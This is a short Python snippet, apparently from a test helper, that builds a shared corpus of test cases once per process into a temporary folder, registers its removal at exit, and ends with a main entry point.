def corpus_dir() -> tuple[Path, list[Case]]:
    """Build the whole corpus once per process (tests share it) into a temporary folder."""
    if "dir" not in _BUILT:
        import atexit

        root = Path(tempfile.mkdtemp(prefix="gendan-corpus-"))
        atexit.register(shutil.rmtree, root, True)
        _BUILT["dir"] = (root, build(root))
    return _BUILT["dir"]


if __name__ == "__main__":
    sys.exit(main())
